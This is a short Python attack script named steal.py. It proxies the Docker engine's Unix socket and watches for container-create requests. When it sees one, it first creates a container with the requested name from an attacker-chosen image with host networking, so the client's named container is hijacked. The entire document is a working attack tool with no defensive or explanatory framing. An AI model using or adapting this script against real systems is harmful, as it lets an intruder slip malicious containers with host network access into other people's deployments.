#!/usr/bin/env python3
"""Between a client and the engine: before the first container is made, a stranger takes its name. steal.py SOCKET-OF-ENGINE OWN-SOCKET IMAGE"""
import re, socket, subprocess, sys, threading

target, path, image = sys.argv[1:]
has_stolen = []

def pump(source, sink):
    try:
        while data := source.recv(65536):
            name = re.match(rb"POST \S*/containers/create\?name=(\S+)", data)
            if name and not has_stolen:
                command = ["docker", "create", "--network=host", "--name", name[1].decode(), image, "true"]
                has_stolen.append(subprocess.run(command, check=True))
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass

server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen(64)
while True:
    client, engine = server.accept()[0], socket.socket(socket.AF_UNIX)
    engine.connect(target)
    for ends in ((client, engine), (engine, client)):
        threading.Thread(target=pump, args=ends, daemon=True).start()
